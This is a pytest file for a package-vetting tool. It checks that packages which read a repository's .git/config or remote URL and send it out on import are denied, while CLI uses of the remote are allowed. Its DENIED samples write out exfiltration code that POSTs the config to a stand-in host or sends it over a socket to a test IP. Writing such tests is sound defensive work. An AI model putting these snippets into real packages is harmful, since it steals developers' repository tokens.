"""A repository's ``.git/config`` (its remotes' URLs may carry a token) read and sent on
install or import (issue 16; ADR 0195).

The file was a plain file, and ``git config --get remote.origin.url``'s output nothing: sent
from a function run on import it was a plain network call. What is read from either is now
host information: sent on install or import it is exfiltration; a CLI that reads its remote
to print it, open it or ask GitHub's API about it when called stays allowed. Every sample
is inert: vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import called_on_import, init, verdict_cases, vet_package

URL = "https://api.pyrelay.net/v1/e"
HEAD = "import os, requests\n"


def on_import(body: str) -> dict[str, str]:
    """``__init__.py`` running ``body`` in a function called on import."""
    return called_on_import(HEAD, body)


DENIED: dict[str, Mapping[str, str]] = {
    "git-config-read-and-posted": on_import(
        f"    with open('.git/config') as f:\n        requests.post({URL!r}, data=f.read())\n"
    ),
    "git-config-parsed-and-its-remote-posted": on_import(
        "    import configparser\n    c = configparser.ConfigParser()\n"
        "    c.read(os.path.join(os.getcwd(), '.git', 'config'))\n"
        "    url = c['remote \"origin\"']['url']\n"
        f"    requests.post({URL!r}, json={{'u': url}})\n"
    ),
    "git-config-read-by-pathlib-from-the-working-folder": on_import(
        "    import pathlib\n    t = (pathlib.Path.cwd() / '.git' / 'config').read_text()\n"
        f"    requests.post({URL!r}, data=t)\n"
    ),
    "git-config-found-walking-up-sent-by-a-socket": on_import(
        "    import socket\n    p = os.path.abspath('.')\n    while p != '/':\n"
        "        c = os.path.join(p, '.git', 'config')\n        if os.path.exists(c):\n"
        "            socket.create_connection(('203.0.113.7', 443))"
        ".sendall(open(c, 'rb').read())\n            break\n"
        "        p = os.path.dirname(p)\n"
    ),
    "remote-url-asked-of-git-and-posted": on_import(
        "    import subprocess\n"
        "    u = subprocess.check_output(['git', 'config', '--get',"
        " 'remote.origin.url']).decode()\n"
        f"    requests.post({URL!r}, json={{'u': u}})\n"
    ),
}
ALLOWED: dict[str, Mapping[str, str]] = {
    # A CLI prints its repository's remote.
    "cli-prints-its-remote": init(
        "import configparser, os\n\n\ndef remote_url():\n    c = configparser.ConfigParser()\n"
        "    c.read(os.path.join('.git', 'config'))\n    return c['remote \"origin\"']['url']\n\n\n"
        "def main():\n    print(remote_url())\n"
    ),
    # setup.py puts its remote in the metadata.
    "setup-url-from-git-config": {
        "setup.py": (
            "import re\nfrom setuptools import setup\ntry:\n"
            "    url = re.search(r'url = (.*)', open('.git/config').read()).group(1)\n"
            "except (OSError, AttributeError):\n    url = ''\nsetup(name='evpkg', url=url)\n"
        ),
        "evpkg/__init__.py": "",
    },
    # A CLI opens its repository's page when called.
    "cli-opens-its-repository-in-a-browser-when-called": init(
        "import os, webbrowser\n\n\ndef browse():\n"
        "    with open(os.path.join('.git', 'config')) as f:\n        for line in f:\n"
        "            if line.strip().startswith('url ='):\n"
        "                webbrowser.open(line.split('=', 1)[1].strip())\n"
    ),
    # A CLI asks GitHub's API about its remote when called.
    "cli-asks-github-about-its-remote-when-called": init(
        "import os, re, requests\n\n\ndef repo_info():\n"
        "    t = open(os.path.join('.git', 'config')).read()\n"
        "    owner, name = re.search(r'github.com[:/](\\S+)/(\\S+?)(?:\\.git)?$', t,"
        " re.M).groups()\n"
        "    return requests.get(f'https://api.github.com/repos/{owner}/{name}').json()\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_repository_config_sent(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
